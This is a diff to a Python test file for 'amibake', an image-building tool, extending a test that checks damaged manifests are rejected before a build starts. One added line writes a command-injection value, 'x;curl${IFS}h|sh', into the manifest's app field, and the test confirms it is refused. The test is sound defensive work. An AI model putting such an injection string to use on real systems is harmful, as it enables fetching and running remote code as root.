@@ -652,11 +652,17 @@ def test_a_damaged_record_is_named_before_anything_is_made(
     assert f"{amis} is damaged (KeyError: 'architecture')" in capsys.readouterr().err
     amis.unlink()
     manifest = next(artifacts.glob("*.manifest.json"))
+    whole = json.loads(manifest.read_text())
     manifest.write_text("{")
     assert amibake(["bake", "--dry-run"]) == 2
     err = capsys.readouterr().err
     assert err.startswith(f"amibake: error: {manifest} is damaged (JSONDecodeError: "), err
     assert "build the family again (amibake build)" in err
+    # The app names paths in root's commands at every boot of the image: no shell words.
+    manifest.write_text(json.dumps({**whole, "app": "x;curl${IFS}h|sh"}))
+    assert amibake(["bake", "--dry-run"]) == 2
+    err = capsys.readouterr().err
+    assert f"{manifest} is damaged (ValueError: app 'x;curl${{IFS}}h|sh' is not a plain" in err
     assert Journal(results / "journal.sqlite").last_run_id() is None  # no run started
 
 
